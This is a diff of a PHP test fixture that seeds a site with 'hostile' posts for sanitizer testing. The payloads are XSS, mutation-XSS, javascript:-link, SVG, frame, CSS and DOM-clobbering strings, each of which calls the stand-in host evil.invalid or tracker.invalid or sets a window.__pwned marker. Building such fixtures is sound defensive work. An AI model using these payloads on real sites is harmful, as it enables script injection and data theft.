@@ -2,18 +2,18 @@
 declare(strict_types=1);
 
 /*
- * Every payload leaves one of two marks, so that a test of any kind can tell that it worked: it sets
- * `window.__pwned` to its name, or it asks `http://evil.invalid/<name>`. What merely spies asks
- * `http://tracker.invalid/<name>`. `.invalid` never resolves (RFC 2606).
+ * Every payload leaves one of two marks for tests: it sets `window.__pwned` to its name, or requests
+ * `http://evil.invalid/<name>`. Trackers request `http://tracker.invalid/<name>`. `.invalid` never resolves (RFC
+ * 2606).
  */
 
-/** Script that leaves both marks; without blanks or double quotes, so that it fits into any attribute. */
+/** A script that leaves both marks; without spaces and double quotes, so that it fits into any attribute. */
 function pwn(string $name): string
 {
   return "window.__pwned='$name';fetch('http://evil.invalid/$name')";
 }
 
-/** One post for each payload, in the category `hostile`, with readable text before and after. */
+/** Creates one post for each payload in the category `hostile`, with readable text before and after. */
 function make_hostile_posts(array $categories, array $authors, array $pictures): void
 {
   $day = 500;
@@ -32,7 +32,6 @@ function make_hostile_posts(array $categories, array $authors, array $pictures):
   }
 }
 
-/** The payloads by name. */
 function hostile_bodies(): array
 {
   $p = 'pwn';
@@ -42,7 +41,6 @@ function hostile_bodies(): array
     "<svg id=\"x\" xmlns=\"http://www.w3.org/2000/svg\"><script>{$p('svg-use')}</script></svg>",
   );
   return [
-    // Script and handlers.
     'script' => "<script>{$p('script')}</script><script src=\"http://evil.invalid/script-src\"></script>"
       . "<script type=\"module\">{$p('script-module')}</script><SCRIPT/x src=http://evil.invalid/script-upper></SCRIPT>",
     'onerror' => "<img src=\"x\" onerror=\"{$p('onerror')}\"><img/src=\"x\"/onerror=\"{$p('onerror-slash')}\">"
@@ -57,14 +55,14 @@ function hostile_bodies(): array
       . "<a xlink:href=\"javascript:{$p('svg-link')}\"><text y=\"20\">Click</text></a>"
       . "<a><animate attributeName=\"href\" values=\"javascript:{$p('svg-animate')}\"/><text y=\"40\">Click</text></a>"
       . "<use href=\"$drawing#x\"/><image href=\"http://tracker.invalid/svg-image\"/></svg>",
-    // Addresses that run.
+    // Executable addresses.
     'javascript-links' => "<a href=\"javascript:{$p('link')}\">Plain</a><a href=\"JaVaScRiPt:{$p('link-case')}\">Case</a>"
       . "<a href=\" &#1; javascript:{$p('link-control')}\">Control</a><a href=\"java&#10;script:{$p('link-newline')}\">Newline</a>"
       . "<a href=\"&#x6A;avascript&colon;{$p('link-entity')}\">Entity</a><a href=\"vbscript:{$p('link-vb')}\">VB</a>"
       . "<area href=\"javascript:{$p('link-area')}\"><math href=\"javascript:{$p('link-math')}\">Math</math>"
       . "<iframe src=\"javascript:parent.{$p('link-frame')}\"></iframe>",
     'data-html' => "<a href=\"$page\">Link</a><iframe src=\"$page\"></iframe><object data=\"$page\"></object><embed src=\"$page\">",
-    // Foreign pages inside ours, and ours taken elsewhere.
+    // Frames, and navigation of the page.
     'srcdoc' => "<iframe srcdoc=\"$frame\"></iframe><iframe src=\"http://evil.invalid/frame\"></iframe>",
     'object' => '<object data="http://evil.invalid/object" type="text/html"><param name="movie" value="http://evil.invalid/param">'
       . '</object><applet code="http://evil.invalid/applet"></applet>',
@@ -81,7 +79,6 @@ function hostile_bodies(): array
       . '<link rel="import" href="http://evil.invalid/import">',
     'blank' => '<a href="http://evil.invalid/opener" target="_blank">Opener</a><a href="http://evil.invalid/top" target="_top">Top</a>'
       . '<a href="https://marsa.example/" ping="http://tracker.invalid/ping">Ping</a>',
-    // Styles.
     'style' => '<style>@import "http://evil.invalid/import.css"; body{display:none} #root{background:url(http://evil.invalid/style)}</style>',
     'style-attribute' => '<p style="background:url(http://tracker.invalid/style-url)">Background</p>'
       . '<p style="background-image:image-set(\'http://tracker.invalid/style-set\' 1x)">Set</p>'
@@ -111,7 +108,7 @@ function hostile_bodies(): array
       . "<title><p title=\"</title><img src=x onerror={$p('mxss-title')}>\"></title>",
     'mxss-depth' => str_repeat('<div>', 600) . "<table><caption><svg><title><table><caption></caption></table><style><!--</style></title></svg>"
       . "<img src=\"x\" onerror=\"{$p('mxss-depth')}\"></caption></table>" . str_repeat('</div>', 600),
-    // Names that shadow what scripts look up.
+    // Names that shadow properties of the document (DOM clobbering).
     'clobbering' => '<div id="root">root</div><form name="body"><input name="parentNode"></form><img name="currentScript" alt="">'
       . '<form id="attributes"><input name="attributes"><input id="innerHTML" name="innerHTML"></form><a id="__pwned" href="#">a</a>'
       . '<a id="defaultView" href="#">b</a><a id="config"></a><a id="config" name="endpoint" href="http://evil.invalid/clobber">c</a>'
